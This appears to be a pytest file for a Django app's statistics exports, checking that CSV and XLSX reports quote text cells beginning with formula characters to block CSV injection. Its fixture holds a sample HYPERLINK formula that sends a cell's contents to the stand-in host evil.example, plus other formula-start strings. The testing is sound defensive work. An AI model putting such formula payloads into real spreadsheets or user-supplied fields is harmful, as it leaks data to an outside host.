"""Names typed by agents (categories, families, services) cannot become formulas in the
spreadsheet exports: every text cell starting with =, +, -, @, a tab or a carriage
return gets a leading quote (OWASP CSV injection), numbers are left as they are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from analytics.exports import spreadsheet_text
from tests.accounts.factories import moderator
from tests.analytics.factories import TransferFactFactory
from tests.conftest import client_for, in_authority

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
HOSTILE = {"category": FORMULA, "family": "+33 1 23", "giver_service": "@SUM(1+1)",
           "receiver_service": "-2+3", "factors_version": "\tv1"}


@pytest.mark.parametrize(("raw", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Chaise", "Chaise"), ("", ""), ("Chaise =1", "Chaise =1"),
])
def test_spreadsheet_text_quotes_only_formula_starts(raw, shown):
    assert spreadsheet_text(raw) == shown


@pytest.fixture
def hostile(chatellerault):
    with in_authority(chatellerault):
        reader = moderator()
    TransferFactFactory(
        authority=chatellerault, transfer_id=900_001, listing_id=900_001,
        date=timezone.localdate(), destination="same_authority", quantity=2,
        value_eur=Decimal("-12.50"), weight_kg=Decimal("2"), weight_avoided_kg=Decimal("2"),
        co2e_avoided_kg=Decimal("3"), **HOSTILE)
    return client_for(chatellerault, reader)


def test_csv_export_escapes_text_cells_not_numbers(hostile):
    response = hostile.get(reverse("statistics:moderation_report_csv"), {"kind": "transfers"})
    assert response.status_code == 200
    header, *rows = csv.reader(io.StringIO(response.content.decode()[1:]), delimiter=";")
    [row] = [dict(zip(header, row, strict=True)) for row in rows]
    for field, raw in HOSTILE.items():
        assert row[field] == "'" + raw
    assert row["value_eur"] == "-12,50"
    assert row["quantity"] == "2"


def test_xlsx_export_has_no_formula_cell(hostile):
    response = hostile.get(reverse("statistics:moderation_report_xlsx"),
                           {"period": "year", "year": timezone.localdate().year})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    transfers = workbook["Transferts"]
    header = [cell.value for cell in transfers[1]]
    [row] = [dict(zip(header, row, strict=True))
             for row in transfers.iter_rows(min_row=2, values_only=True)]
    assert row["Catégorie"] == "'" + FORMULA
    assert row["Famille"] == "'+33 1 23"
    assert row["Service donneur"] == "'@SUM(1+1)"
    assert row["Valeur (€)"] == -12.5
